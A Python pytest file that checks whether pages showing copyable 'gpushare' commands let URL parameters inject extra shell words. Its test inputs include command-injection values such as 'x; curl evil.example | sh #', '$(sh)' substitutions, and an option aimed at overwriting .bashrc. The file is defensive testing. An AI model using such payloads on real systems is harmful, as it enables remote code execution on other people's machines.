"""Commands that the page shows for copying hold nothing that somebody else can choose, but quoted words."""

from __future__ import annotations

import shlex
from typing import Any

import pytest

from tests.web.test_pages_of_the_past import NOW, Read, read

__all__ = ["read"]

EVIL = "x; curl evil.example | sh #"
TRIED = {
    "the name of an option": {EVIL: "1"},
    "an option of another command": {"output": "/home/ada/.bashrc", "exec": "sh"},
    "the value of an option": {"user": EVIL},
    "a value that ends its quotes": {"user": f"'{EVIL}", "project": "$(sh)`sh`"},
    "a value of two lines": {"user": "ada\nsh"},
}
ANSWERS: dict[str, Any] = {"leases": {"leases": [], "notices": []}}
"""Nothing is answered for the pages of the past, which show their command meanwhile."""


@pytest.mark.parametrize("words", TRIED.values(), ids=TRIED.keys())
@pytest.mark.parametrize("page", ["use", "history", "idle", "audit"])
def test_an_address_puts_no_word_into_a_command_but_its_options_values(
    read: Read, page: str, words: dict[str, str]
) -> None:
    """The page opens by a link of anybody's, with such words in it."""
    [command] = read("page", page=page, words=words, now=NOW, answers={}, state=ANSWERS)["code"]
    known = {f"--{name}": word for name, word in words.items() if name in {"user", "project"}}
    kind = {"use": "usage"}.get(page, page)
    found = shlex.split(command, posix=True)
    assert found[:2] == ["gpushare", kind]
    options = dict(zip(found[2::2], found[3::2], strict=True))
    assert options.items() <= known.items(), command
